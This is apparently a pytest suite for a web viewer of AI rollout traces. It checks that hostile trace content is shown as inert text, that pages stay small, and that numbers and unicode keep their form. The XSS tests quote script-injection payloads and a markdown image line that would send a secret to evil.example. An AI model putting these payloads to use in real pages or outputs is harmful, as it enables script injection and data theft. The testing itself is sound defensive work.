"""Named reports of other projects that these pages must not repeat."""

from __future__ import annotations

import json
from html import unescape

import pytest

from explorer.trace.decode import pieces
from explorer.web.header import TABS
from explorer.web.markup import token_text
from explorer.web.pretty import body_text
from tests.web.conftest import Site
from tests.web.parsing import read
from tests.web.seeds import BIG_ID, BIG_SEED
from tests.web.vocabulary import encode, table

PAGES = ("/", "/rollouts", "/runs/grpo-tiny%20%23412")


@pytest.mark.parametrize("tab", [name for name, _ in TABS])
def test_xss_01_trace_text_is_text(site: Site, tab: str) -> None:
    page = read(site.text(f"/rollouts/{{hostile}}/{tab}"))
    allowed = {"/static/early.js", "/static/explorer.js", "/static/vendor/htmx-4.0.1.min.js"}
    scripts = [
        e.attributes.get("src", "").split("?")[0] for e in page.elements if e.tag == "script"
    ]
    assert set(scripts) <= allowed
    assert not [e for e in page.elements if e.tag == "img"]
    for element in page.elements:
        assert "javascript:" not in element.attributes.get("href", "")
        assert "onmouseover" not in element.attributes


def test_xss_01_is_still_readable(site: Site) -> None:
    for path in ("/rollouts/{hostile}/conversation", "/rollouts/{hostile}/tokens"):
        text = read(site.text(path)).text
        assert "<img src=x onerror=alert(1)>" in text
        assert "</script><script>alert(1)</script>" in text


@pytest.mark.parametrize("path", PAGES)
def test_xss_01_in_lists(site: Site, path: str) -> None:
    page = site.text(path)
    assert "<script>alert(1)" not in page
    assert "<script>alert(1)</script>" in read(page).text


def test_xss_01_in_json_the_type_is_json(site: Site) -> None:
    reply = site.client.get(site.url("/rollouts/{hostile}/conversation.json"))
    assert reply.headers["content-type"] == "application/json"


def test_xss_03_images_are_never_loaded(site: Site) -> None:
    page = site.text("/rollouts/{hostile}/conversation")
    assert "![x](https://evil.example/p?d=SECRET)" in read(page).text
    for element in read(page).elements:
        assert "evil.example" not in " ".join(element.attributes.values())


def test_size_03_first_page_is_small(long_site: Site) -> None:
    whole = sum(len(body.data) for bodies in long_site.made["long"].bodies for body in bodies)
    assert whole > 100_000_000
    for tab in ("conversation", "requests", "timing", "findings", "provenance"):
        assert len(long_site.text(f"/rollouts/{{long}}/{tab}").encode()) < 300_000, tab
    # All tokens are sent, so that find-in-page reaches them; what travels is small.
    with long_site.client.stream("GET", long_site.url("/rollouts/{long}/tokens")) as reply:
        assert sum(map(len, reply.iter_raw())) < 300_000


def test_size_03_later_turns_come_on_demand(long_site: Site) -> None:
    first = long_site.json("/rollouts/{long}/conversation.json")
    seen = 0
    more = first["more_href"]
    turns = first["turns"]
    assert isinstance(turns, list)
    seen += len(turns)
    while isinstance(more, str) and seen < 40:
        fragment = long_site.client.get(more, headers={"HX-Request": "true"}).text
        assert "<html" not in fragment
        page = read(fragment)
        numbers = [e for e in page.elements if "data-turn" in e.attributes]
        assert int(numbers[0].attributes["data-turn"]) == seen + 1
        seen += len(numbers)
        links = [e.attributes["hx-get"] for e in page.elements if "hx-get" in e.attributes]
        more = links[0] if links else None
    assert seen >= 40


def test_size_04_big_integers_keep_their_digits(site: Site) -> None:
    call = site.made["small"].calls[0]
    page = read(site.text(f"/rollouts/{{small}}/requests/{call.call_id}"))
    assert str(BIG_SEED) in page.text
    assert BIG_ID in page.text
    assert BIG_ID in read(site.text("/rollouts/{small}/conversation")).text
    assert str(BIG_SEED) in read(site.text("/rollouts/{small}/provenance")).text


@pytest.mark.parametrize(
    "spelled",
    ["107505301260286111", "1e400", "-0", "1.10", "123456789012345678901234567890", "1E-7"],
)
def test_size_04_original_spelling(spelled: str) -> None:
    assert spelled in body_text(b'{"id": ' + spelled.encode() + b"}", whole=False).text


def test_ids_stand_in_one_line_however_many() -> None:
    shown = body_text(b'{"ids": [1, 2.50, 3], "names": ["a", "b"], "none": []}', whole=False)
    assert '"ids": [1, 2.50, 3],' in shown.text
    assert shown.text.count("\n") == 7


def test_uni_02_nul_is_shown(site: Site) -> None:
    assert "\\x00" in read(site.text("/rollouts/{hostile}/conversation")).text


def test_uni_03_invalid_bytes_are_readable() -> None:
    shown = body_text(b'{"a": "\xff\xfe\x00"}', whole=False)
    shown.text.encode()
    assert body_text(json.dumps({"a": "\ud800"}).encode(), whole=False).text.encode()


def test_uni_04_overrides_are_visible(site: Site) -> None:
    for tab in ("conversation", "tokens"):
        text = read(site.text(f"/rollouts/{{hostile}}/{tab}")).text
        assert "\\u202e" in text
        assert not set(text) & set("\u202e\u202c\u200b\ufeff")


def test_uni_06_a_character_is_drawn_once() -> None:
    ids = encode("👩\u200d💻")
    shown = "".join(unescape(token_text(piece)) for piece in pieces(ids, table()))
    assert shown.count("👩") == 1
    assert shown.count("💻") == 1
    assert "\\u200d" in shown
